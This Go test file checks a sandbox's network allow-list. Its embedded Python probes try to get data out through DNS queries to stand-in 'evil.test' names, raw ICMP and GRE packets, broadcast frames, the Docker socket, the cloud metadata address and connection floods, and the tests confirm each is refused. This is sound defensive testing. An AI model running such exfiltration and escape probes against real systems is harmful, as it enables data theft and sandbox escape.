// Copyright (c) The sandboxer authors
// SPDX-License-Identifier: MPL-2.0

//go:build linux

package extension_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/sand-boxer/terraform-provider-sandboxer/extensions/local/internal/extension"
	"github.com/sand-boxer/terraform-provider-sandboxer/sdk"
)

func allowing(allow ...string) sdk.Profile {
	return sdk.Profile{Name: "net", Network: &sdk.Network{Egress: sdk.EgressDeny, Allow: allow}}
}

// python runs a program that has to succeed and returns its output.
func python(t *testing.T, e *extension.Extension, id, program string, values ...any) string {
	t.Helper()
	return strings.TrimSpace(run(t, e, id, "python3", "-c", fmt.Sprintf(program, values...)))
}

const (
	isRefused = "ConnectionRefusedError"
	isUnknown = "gaierror"
)

// attempt is a connection from inside, who answers or what the error is, and
// what is noted about it.
type attempt struct {
	host string
	port int
	want string
	says string // of the network log
}

// tryAll tries connections from inside, all in one command.
func tryAll(t *testing.T, e *extension.Extension, id string, attempts ...attempt) {
	t.Helper()
	var list [][2]any
	for _, a := range attempts {
		list = append(list, [2]any{a.host, a.port})
	}
	targets, err := json.Marshal(list)
	must(t, err)
	got := strings.Split(python(t, e, id, `
import socket
for host, port in %s:
    try: print(socket.create_connection((host, port), 20).makefile().readline().strip() or "closed")
    except OSError as e: print(type(e).__name__, e)
`, targets), "\n")
	if len(got) != len(attempts) {
		t.Fatalf("%d answers to %d attempts: %q", len(got), len(attempts), got)
	}
	for i, a := range attempts {
		if !strings.HasPrefix(got[i], a.want) {
			t.Errorf("%s port %d: %q, want %q", a.host, a.port, got[i], a.want)
		}
	}
}

func networkLog(t *testing.T, e *extension.Extension, id string) string {
	t.Helper()
	var out bytes.Buffer
	if _, err := e.Logs(t.Context(), sdk.LogsOptions{Target: target(id), Source: sdk.LogNetwork, Output: &out}); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

// onlyTo fails for each packet that left for elsewhere, and when none left at
// all: then nothing was seen.
func onlyTo(t *testing.T, packets []string, allowed ...string) {
	t.Helper()
	if len(packets) == 0 {
		t.Error("no packet was captured, not even an allowed one")
	}
	for _, packet := range packets {
		if !slices.Contains(allowed, packet) {
			t.Errorf("it left: %s", packet)
		}
	}
}

func TestAnAllowListLetsOutWhatItNamesAndNothingElse(t *testing.T) {
	if !inOwnNetwork(t) {
		return
	}
	out := newInternet(t)
	for _, port := range []int{443, 80, 5000, 7000} {
		out.greet(t, port)
	}
	greetHost(t, 8443)
	e := backend(t)
	s := create(t, e, options(allowing("good.test:443", "*.many.test:80", "six.test:443", "anyport.test", "192.0.2.0/24:7000", "["+goodAddr6+"]:7000",
		"loop.test", "zero.test", "meta.test", "lan.test", "self.test", "mapped.test", "nat.test", "both.test:443", "0.0.0.0/0:5000")))
	out.setRecord("anyport.test", goodAddr)
	attempts := []attempt{
		{"good.test", 443, "internet", ""},
		{"GOOD.Test", 443, "internet", ""},
		{"a.many.test", 80, "internet", ""},
		{"six.test", 443, "internet", ""},
		{"anyport.test", 7000, "internet", ""},
		{"192.0.2.1", 7000, "internet", ""},
		{goodAddr6, 7000, "internet", ""},
		{goodAddr, 5000, "internet", ""},
		{"both.test", 443, "internet", ""}, // its first address is this machine

		{"good.test", 80, isRefused, "tcp good.test:80 refused: no entry"},
		{"a.many.test", 443, isRefused, "tcp a.many.test:443 refused: no entry"},
		{"192.0.2.1", 443, isRefused, "tcp 192.0.2.1:443 refused: no entry"},
		{goodAddr, 443, isRefused, "tcp " + goodAddr + ":443 refused: no entry"}, // the address behind an allowed name
		{otherAddr, 443, isRefused, "tcp " + otherAddr + ":443 refused: no entry"},
		{goodAddr6, 443, isRefused, "tcp [" + goodAddr6 + "]:443 refused: no entry"},
		{"198.18.99.99", 443, isRefused, "no name has this address"},
		{"many.test", 80, isUnknown, "dns many.test refused: no entry"},
		{"other.test", 443, isUnknown, "dns other.test refused: no entry"},
		{"good.test.other.test", 443, isUnknown, "dns good.test.other.test refused"},
		{"evilgood.test", 443, isUnknown, "dns evilgood.test refused"},

		// Allowed names that lead to this machine or its networks.
		{"loop.test", 8443, isRefused, "tcp loop.test:8443 refused: the name leads to 127.0.0.1"},
		{"zero.test", 8443, isRefused, "tcp zero.test:8443 refused: the name leads to 0.0.0.0"},
		{"mapped.test", 8443, isRefused, "tcp mapped.test:8443 refused: the name leads to"},
		{"self.test", 8443, isRefused, "tcp self.test:8443 refused: the name leads to " + hostAddr},
		{"lan.test", 443, isRefused, "tcp lan.test:443 refused: the name leads to 10.9.8.7"},
		{"meta.test", 80, isRefused, "tcp meta.test:80 refused: the name leads to 169.254.169.254"},
		{"nat.test", 8443, isRefused, "tcp nat.test:8443 refused: the name leads to 64:ff9b::7f00:1"},
		// A block as wide as the internet opens none of them.
		{"meta.test", 5000, isRefused, "tcp meta.test:5000 refused: the name leads to"},
		{"169.254.169.254", 5000, isRefused, "tcp 169.254.169.254:5000 refused: no entry"},
		{"loop.test", 5000, isRefused, "tcp loop.test:5000 refused: the name leads to"},
	}
	tryAll(t, e, s.ID, attempts...)
	// A name whose address changes after it was resolved.
	out.setRecord("good.test", "127.0.0.1")
	tryAll(t, e, s.ID, attempt{"good.test", 443, isRefused, ""})
	out.setRecord("good.test", goodAddr)
	tryAll(t, e, s.ID, attempt{"good.test", 443, "internet", ""})
	// A name that is allowed and is nobody's.
	out.setRecord("gone.many.test")
	tryAll(t, e, s.ID, attempt{"nobody.many.test.", 80, "internet", ""}, attempt{"gone.many.test", 80, isRefused, ""})
	log := networkLog(t, e, s.ID)
	for _, a := range append(attempts, attempt{says: "tcp good.test:443 refused: the name leads to 127.0.0.1"}, attempt{says: "tcp gone.many.test:80 failed: "}) {
		if !strings.Contains(log, a.says) {
			t.Errorf("the network log lacks %q", a.says)
		}
	}
	if t.Failed() {
		t.Logf("the network log:\n%s", log)
	}
	onlyTo(t, out.arrived(t), "tcp "+goodAddr+":443", "tcp "+goodAddr+":80", "tcp "+goodAddr+":7000", "tcp "+goodAddr+":5000", "tcp 192.0.2.1:7000",
		"tcp ["+goodAddr6+"]:443", "tcp ["+goodAddr6+"]:7000")
	if names := out.asked(); slices.ContainsFunc(names, func(name string) bool {
		return strings.Contains(name, "other") || strings.Contains(name, "evil") || strings.Contains(name, "search")
	}) {
		t.Errorf("the host's name server was asked for %q", names)
	}
}

// A block opens addresses that names may not lead to by themselves.
func TestABlockOpensPrivateAddresses(t *testing.T) {
	if !inOwnNetwork(t) {
		return
	}
	out := newInternet(t)
	out.greet(t, 443)
	greetHost(t, 8443)
	e := backend(t)
	s := create(t, e, options(allowing("lan.test:443", "10.0.0.0/8:443", "loop.test:8443", "127.0.0.1:8443", "self.test:8443", hostAddr+":8443", "169.254.169.254:443")))
	tryAll(t, e, s.ID, []attempt{
		{"lan.test", 443, "internet", ""}, {"10.9.8.7", 443, "internet", ""}, {"loop.test", 8443, "host", ""}, {"self.test", 8443, "host", ""},
		{hostAddr, 8443, "host", ""}, {"169.254.169.254", 443, "internet", ""},
		{"10.9.8.7", 80, isRefused, ""}, {"127.0.0.1", 8443, isRefused, ""}, // from inside, 127.0.0.1 is the sandbox
	}...)
	onlyTo(t, out.arrived(t), "tcp 10.9.8.7:443", "tcp 169.254.169.254:443")
}

// Every other way that a packet could take.
const everyWay = `
import errno, os, socket, struct
def dns(name): return b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\x00\x00\x01\x00\x01"
def send(what, family, kind, protocol, to, data):
    try:
        s = socket.socket(family, kind, protocol)
        s.settimeout(0.3)
        s.sendto(data, to)
        try: print(what, "answered", s.recv(512)[:2])
        except OSError: pass
    except OSError: pass
for to in ("%[1]s", "%[2]s", "192.0.2.1", "192.0.2.2", "8.8.8.8", "255.255.255.255", "224.0.0.251"):
    for port in (53, 123, 443, 4433):
        send("udp", socket.AF_INET, socket.SOCK_DGRAM, 0, (to, port), dns("secret.evil.test"))
    send("ping", socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, (to, 0), struct.pack("!BBHHH4s", 8, 0, 0xf7fd, 0, 1, b"ping"))
    for protocol in (socket.IPPROTO_ICMP, 47, 132, 255):
        send("raw", socket.AF_INET, socket.SOCK_RAW, protocol, (to, 0), bytes(64))
for to in ("%[3]s", "2001:db8::1", "2001:db8::2", "fe80::1", "ff02::1"):
    send("udp6", socket.AF_INET6, socket.SOCK_DGRAM, 0, (to, 53), dns("secret.evil.test"))
    send("ping6", socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6, (to, 0), struct.pack("!BBHHH4s", 128, 0, 0, 0, 1, b"ping"))
    send("raw6", socket.AF_INET6, socket.SOCK_RAW, 58, (to, 0), bytes(64))
for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
    try:
        s = socket.socket(socket.AF_PACKET, kind, 0x300); s.bind(("eth0", 0)); s.send(b"\xff" * 6 + bytes(60))
    except OSError: pass
for to, port in (("%[1]s", 53), ("192.0.2.1", 53), ("8.8.8.8", 53), ("8.8.8.8", 853)):
    try: print("tcp", socket.create_connection((to, port), 3))
    except OSError as e: pass
for name in ["data-%%d.evil.test" %% i for i in range(20)] + ["a.many.test", "b.many.test"]:
    try: socket.getaddrinfo(name, 443)
    except OSError: pass
for host in ("/var/run/docker.sock", "\0docker", "\0/tmp/.X11-unix/X0"):
    try: socket.socket(socket.AF_UNIX).connect(host); print("unix", host)
    except OSError: pass
print("tried")
`

func TestNothingButTCPLeaves(t *testing.T) {
	if !inOwnNetwork(t) {
		return
	}
	out := newInternet(t)
	for _, port := range []int{53, 443} {
		out.greet(t, port)
	}
	e := backend(t)
	s := create(t, e, options(allowing("good.test:443", "*.many.test:443", "203.0.113.0/24:443", "["+goodAddr6+"]:443")))
	tryAll(t, e, s.ID, attempt{"good.test", 443, "internet", ""})
	onlyTo(t, out.arrived(t), "tcp "+goodAddr+":443")
	out.asked()
	if got := python(t, e, s.ID, everyWay, goodAddr, otherAddr, goodAddr6); got != "tried" {
		t.Errorf("from inside: %s", got)
	}
	if packets := out.arrived(t); len(packets) > 0 {
		t.Errorf("left: %q", packets)
	}
	// Looking an allowed name up asks nobody either.
	if names := out.asked(); len(names) > 0 {
		t.Errorf("the host's name server was asked for %q", names)
	}
	if log := networkLog(t, e, s.ID); !strings.Contains(log, "udp 8.8.8.8:53 refused") || !strings.Contains(log, "dns data-1.evil.test refused") {
		t.Errorf("the network log:\n%s", log)
	}
}

// A connection goes to where the host's resolver says that the name is: what
// is said in it, a Host header or a TLS server name, leads nowhere else.
func TestWhatIsSaidInAConnectionDoesNotMoveIt(t *testing.T) {
	if !inOwnNetwork(t) {
		return
	}
	out := newInternet(t)
	out.greet(t, 443)
	e := backend(t)
	s := create(t, e, options(allowing("good.test:443")))
	got := python(t, e, s.ID, `
import socket
c = socket.create_connection(("good.test", 443), 20)
f = c.makefile("rw"); print(f.readline().strip())
c.sendall(b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\nCONNECT other.test:443 HTTP/1.1\r\n\r\n")
c.shutdown(socket.SHUT_WR); print(f.read().split("\n")[1].strip())
`)
	if got != "internet\nHost: other.test" {
		t.Errorf("%q", got)
	}
	onlyTo(t, out.arrived(t), "tcp "+goodAddr+":443")
}

func TestAllowEntriesAreRefusedOnTheirPath(t *testing.T) {
	e := backend(t)
	for entry, says := range map[string]string{
		"api.example:": "port", "10.0.0.1/8:443": "10.0.0.0/8", "198.18.5.5:443": "reserved", "localhost:80": "the sandbox itself", "https://a.example": "URL",
		"[" + "fd4a:6b1c:e0d2:7c35::9]:80": "reserved",
	} {
		opts := options(allowing("good.test:443", entry))
		_, err := e.Create(t.Context(), opts)
		var refusal *sdk.Error
		if !errors.Is(err, sdk.ErrInvalid) || !errors.As(err, &refusal) || refusal.Path != "network.allow[1]" || !strings.Contains(err.Error(), says) {
			t.Errorf("%s: %v, want ErrInvalid on network.allow[1] with %q", entry, err, says)
		}
		if err == nil {
			destroyLater(t, e, opts.ID)
		}
	}
}

// Neither while it lives nor afterwards does a sandbox show in the network of
// the machine.
func TestTheMachinesNetworkIsLeftAlone(t *testing.T) {
	if !inOwnNetwork(t) {
		return
	}
	out := newInternet(t)
	out.greet(t, 443)
	state := stateDir(t)
	e := backendAt(t, state, time.Now)
	before := machineNetwork(t)
	opts := options(allowing("good.test:443"))
	s := create(t, e, opts)
	tryAll(t, e, s.ID, attempt{"good.test", 443, "internet", ""})
	if now := machineNetwork(t); now != before {
		t.Errorf("with a sandbox:\n%s\nbefore:\n%s", now, before)
	}
	var supervisor struct{ Pid int }
	data, err := os.ReadFile(filepath.Join(state, "local", "sandboxes", s.ID, "supervisor.json"))
	must(t, err, json.Unmarshal(data, &supervisor))
	must(t, syscall.Kill(supervisor.Pid, syscall.SIGKILL))
	until(t, e, s.ID, sdk.StatusLost)
	if now := machineNetwork(t); now != before {
		t.Errorf("after its supervisor was killed:\n%s\nbefore:\n%s", now, before)
	}
	if lines, _ := filepath.Glob("/proc/[0-9]*/cmdline"); slices.ContainsFunc(lines, func(path string) bool {
		line, _ := os.ReadFile(path)
		return bytes.Contains(line, []byte(s.ID))
	}) {
		t.Error("processes of the sandbox go on")
	}
}

// machineNetwork describes interfaces, addresses, routes and packet filters.
func machineNetwork(t *testing.T) string {
	t.Helper()
	var b strings.Builder
	interfaces, err := net.Interfaces()
	must(t, err)
	for _, i := range interfaces {
		addrs, _ := i.Addrs()
		fmt.Fprintln(&b, i.Index, i.Name, i.Flags, addrs)
	}
	for _, file := range []string{"route", "ipv6_route", "ip_tables_names", "ip6_tables_names", "nf_conntrack_expect"} {
		data, _ := os.ReadFile("/proc/thread-self/net/" + file)
		for line := range strings.Lines(string(data)) {
			if strings.HasPrefix(line, "fe80") {
				continue // comes by itself, in its own time
			}
			// The last columns of an IPv6 route count its uses.
			fmt.Fprintln(&b, strings.Join(strings.Fields(line)[:min(len(strings.Fields(line)), 5)], " "))
		}
	}
	return b.String()
}

func TestPauseAndPortsWithAnAllowList(t *testing.T) {
	if !inOwnNetwork(t) {
		return
	}
	out := newInternet(t)
	out.greet(t, 443)
	e := backend(t)
	profile := counter
	profile.Network = allowing("good.test:443").Network
	s := create(t, e, options(profile))
	run(t, e, s.ID, "sh", "-c", "until [ -e /srv/listening ]; do sleep 0.05; done")
	for want := 1; want <= 3; want++ {
		if got := count(t, s); got != want {
			t.Errorf("count %d, want %d", got, want)
		}
	}
	if _, err := e.Pause(t.Context(), sdk.PauseOptions{Target: target(s.ID)}); err != nil {
		t.Fatal(err)
	}
	if _, err := e.Resume(t.Context(), sdk.ResumeOptions{Target: target(s.ID)}); err != nil {
		t.Fatal(err)
	}
	if got := count(t, s); got != 4 {
		t.Errorf("count %d after the resume, want 4", got)
	}
	tryAll(t, e, s.ID, attempt{"good.test", 443, "internet", ""}, attempt{"other.test", 443, isUnknown, ""})
}

// caller is a main process that resolves a name once and then connects to its
// address again and again.
const caller = `
import socket, time
address = socket.gethostbyname("a.many.test")
while True:
    try: got = socket.create_connection((address, 443), 5).makefile().readline().strip()
    except OSError as e: got = type(e).__name__
    with open("/srv/calls", "a") as f: f.write(got + "\n")
    time.sleep(0.02)
`

func TestAForkHasThePolicyOfItsProfile(t *testing.T) {
	if !inOwnNetwork(t) {
		return
	}
	out := newInternet(t)
	out.greet(t, 443)
	e := backend(t)
	profile := allowing("good.test:443", "*.many.test:443")
	profile.Command = []string{"python3", "-c", caller}
	s := create(t, e, options(profile))
	last := func(id string) string {
		return strings.TrimSpace(run(t, e, id, "sh", "-c", ": > /srv/calls; until [ $(wc -l < /srv/calls) -gt 2 ]; do sleep 0.05; done; tail -n 1 /srv/calls"))
	}
	if got := last(s.ID); got != "internet" {
		t.Fatalf("the source: %s", got)
	}
	tryAll(t, e, s.ID, attempt{"good.test", 443, "internet", ""})
	memory, files := snap(t, e, s.ID, sdk.SnapshotMemory), snap(t, e, s.ID, sdk.SnapshotFilesystem)

	same := restore(t, e, memory.ID, options(profile))
	if got := last(same.ID); got != "internet" {
		t.Errorf("a fork with the same policy: %s, want that the address stands for its name", got)
	}
	tryAll(t, e, same.ID, attempt{"good.test", 443, "internet", ""})
	for name, allow := range map[string][]string{"another allow-list": {"good.test:443"}, "none": nil} {
		narrow := profile
		narrow.Network = allowing(allow...).Network
		fork := restore(t, e, memory.ID, options(narrow))
		if got := last(fork.ID); got != isRefused {
			t.Errorf("a fork with %s: %s, want %s", name, got, isRefused)
		}
		tryAll(t, e, fork.ID, attempt{"a.many.test", 443, isUnknown, ""})
	}
	if got := last(s.ID); got != "internet" {
		t.Errorf("the source after its forks: %s", got)
	}

	fork := restore(t, e, files.ID, options(allowing("good.test:443")))
	tryAll(t, e, fork.ID, attempt{"good.test", 443, "internet", ""}, attempt{"a.many.test", 443, isUnknown, ""})
	closed := restore(t, e, files.ID, options(sdk.Profile{Name: "net", Network: &sdk.Network{Egress: sdk.EgressNone}}))
	tryAll(t, e, closed.ID, attempt{goodAddr, 443, "OSError", ""})
	// A snapshot that knows no way out can get one with its files alone.
	files = snap(t, e, closed.ID, sdk.SnapshotFilesystem)
	opened := restore(t, e, files.ID, options(allowing("good.test:443")))
	tryAll(t, e, opened.ID, attempt{"good.test", 443, "internet", ""})

	deny := create(t, e, options(sdk.Profile{Name: "net", Network: &sdk.Network{Egress: sdk.EgressDeny}}))
	memory = snap(t, e, deny.ID, sdk.SnapshotMemory)
	_, err := e.Restore(t.Context(), sdk.RestoreOptions{SnapshotID: memory.ID, Create: options(allowing("good.test:443"))})
	var refusal *sdk.Error
	if !errors.Is(err, sdk.ErrInvalid) || !errors.As(err, &refusal) || refusal.Path != "network.allow" {
		t.Errorf("a way out for running processes that had none: %v, want ErrInvalid on network.allow", err)
	}
}

// shooter sends wherever it can from its first instruction on.
const shooter = `
import socket
targets = [(%q, 443), (%q, 443), ("8.8.8.8", 53), (%q, 7000)]
with open("/srv/shots", "a") as f:
    while True:
        for to in targets:
            for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
                s = socket.socket(socket.AF_INET, kind); s.setblocking(False)
                try: s.connect(to); s.send(b"x")
                except OSError: pass
                s.close()
        f.write("shot\n"); f.flush()
`

// Policy is there before the sandbox is: of a program that sends with its
// first instruction, and of one that was sending when it was frozen, no
// packet leaves but those that are allowed.
func TestNoPacketLeavesBeforeThePolicy(t *testing.T) {
	if !inOwnNetwork(t) {
		return
	}
	times := 5
	if os.Getenv("SANDBOXER_TEST_FULL") != "" {
		times = 200
	}
	out := newInternet(t)
	for _, port := range []int{53, 443, 7000} {
		out.greet(t, port)
	}
	e := backend(t)
	profile := allowing("good.test:443", goodAddr+":7000")
	profile.Command = []string{"python3", "-c", fmt.Sprintf(shooter, goodAddr, otherAddr, goodAddr)}
	fired := func(id string) {
		t.Helper()
		run(t, e, id, "sh", "-c", ": > /srv/shots; until [ -s /srv/shots ]; do sleep 0.01; done")
		packets := out.arrived(t)
		// The shots that are allowed take their way through the gateway.
		for until := time.Now().Add(time.Minute); len(packets) == 0 && time.Now().Before(until); {
			time.Sleep(20 * time.Millisecond)
			packets = out.arrived(t)
		}
		onlyTo(t, packets, "tcp "+goodAddr+":7000")
	}
	gone := func(id string) {
		t.Helper()
		if _, err := e.Destroy(t.Context(), sdk.DestroyOptions{Target: target(id)}); err != nil {
			t.Fatal(err)
		}
	}
	for range times {
		s := create(t, e, options(profile))
		fired(s.ID)
		gone(s.ID)
	}
	s := create(t, e, options(profile))
	fired(s.ID)
	for _, kind := range []sdk.SnapshotKind{sdk.SnapshotMemory, sdk.SnapshotFilesystem} {
		made := snap(t, e, s.ID, kind)
		for range times {
			fork := restore(t, e, made.ID, options(profile))
			fired(fork.ID)
			gone(fork.ID)
		}
	}
}

// What can't be had is unsupported with a reason, and refused; it is never
// open. Whoever may not make network namespaces has no allow-list.
func TestWithoutNamespacesThereIsNoAllowList(t *testing.T) {
	if os.Geteuid() == 0 {
		return // the other user's run tries it, in a user namespace whose limits are its own
	}
	if !inOwnNetwork(t) {
		return
	}
	// The fewest with which a sandbox can be had at all are not enough for one
	// with a gateway, which needs two more.
	const limit = "/proc/sys/user/max_net_namespaces"
	var e *extension.Extension
	var probed sdk.ProbeResult
	for most := 1; most < 10 && !probed.Usable; most++ {
		must(t, os.WriteFile(limit, []byte(strconv.Itoa(most)), 0o644))
		e = backend(t)
		var err error
		if probed, err = e.Probe(t.Context(), sdk.ProbeOptions{}); err != nil {
			t.Fatal(err)
		}
	}
	for _, feature := range []sdk.Feature{sdk.FeatureEgressCIDR, sdk.FeatureEgressDomain} {
		if g := probed.Capabilities.Of(feature); g.Class != sdk.ClassUnsupported || !strings.Contains(g.Reason, "network namespace") || g.DependsOnMachine {
			t.Errorf("%s: %+v", feature, g)
		}
	}
	if !probed.Usable {
		t.Errorf("a sandbox without an allow-list: %s", probed.Reason)
	}
	opts := options(allowing("good.test:443"))
	_, err := e.Create(t.Context(), opts)
	if err == nil || !strings.Contains(err.Error(), "network.allow: ") {
		t.Errorf("create: %v", err)
	}
	if _, err := e.Get(t.Context(), sdk.GetOptions{Target: target(opts.ID)}); !errors.Is(err, sdk.ErrNotFound) {
		t.Errorf("get: %v", err)
	}
}

// A flood from inside is bounded outside, and the gateway goes on.
func TestAFloodIsBounded(t *testing.T) {
	if !inOwnNetwork(t) {
		return
	}
	out := newInternet(t)
	out.greet(t, 443)
	e := backend(t)
	s := create(t, e, options(allowing("good.test:443", "*.many.test:443")))
	got := python(t, e, s.ID, `
import resource, socket
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
held, refused = [], 0
for i in range(700):
    try: held.append(socket.create_connection(("good.test", 443), 20))
    except OSError: refused += 1
print(len(held), refused)
for c in held: c.close()
for i in range(600):
    try: socket.create_connection(("203.0.113.%%d" %% (i %% 250), 1000 + i), 5)
    except OSError: pass
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(5000):
    try: u.sendto(bytes([i & 255]) * (i %% 1400), ("198.18.0.1", 53))
    except OSError: pass
`)
	var held, refused int
	if _, err := fmt.Sscan(got, &held, &refused); err != nil || held < 500 || held > 512 || held+refused != 700 {
		t.Errorf("%q, want some 512 connections and the rest refused", got)
	}
	log := networkLog(t, e, s.ID)
	if lines := strings.Count(log, "\n"); lines < 100 || lines > 2000 || !strings.Contains(log, "connections are open") {
		t.Errorf("%d lines in the network log", lines)
	}
	tryAll(t, e, s.ID, attempt{"good.test", 443, "internet", ""})
}

// A transfer is whole, both ways and half-closed, whatever its size.
func TestTransfersAreWhole(t *testing.T) {
	if !inOwnNetwork(t) {
		return
	}
	out := newInternet(t)
	out.greet(t, 443)
	e := backend(t)
	took := map[string]float64{}
	for egress, profile := range map[string]sdk.Profile{
		sdk.EgressDeny: allowing("good.test:443"), sdk.EgressOpen: {Name: "net", Network: &sdk.Network{Egress: sdk.EgressOpen}},
	} {
		s := create(t, e, options(profile))
		var seconds float64
		got := python(t, e, s.ID, `
import hashlib, os, socket, threading, time
data = os.urandom(1 << 20) * 32
begun = time.monotonic()
c = socket.create_connection(("good.test", 443), 20)
def send(): c.sendall(data); c.shutdown(socket.SHUT_WR)
threading.Thread(target=send).start()
f = c.makefile("rb"); f.readline(); back = f.read()
print(time.monotonic() - begun, len(back), hashlib.sha256(back).digest() == hashlib.sha256(data).digest())
`)
		if n, _ := fmt.Sscan(got, &seconds); n != 1 || !strings.HasSuffix(got, fmt.Sprintf(" %d True", 32<<20)) {
			t.Errorf("egress = %s: %s", egress, got)
		}
		took[egress] = seconds
	}
	t.Logf("32 MiB there and back: %.2f s through the gateway, %.2f s over the host's network: %.1f times as long", took[sdk.EgressDeny], took[sdk.EgressOpen], took[sdk.EgressDeny]/took[sdk.EgressOpen])
}
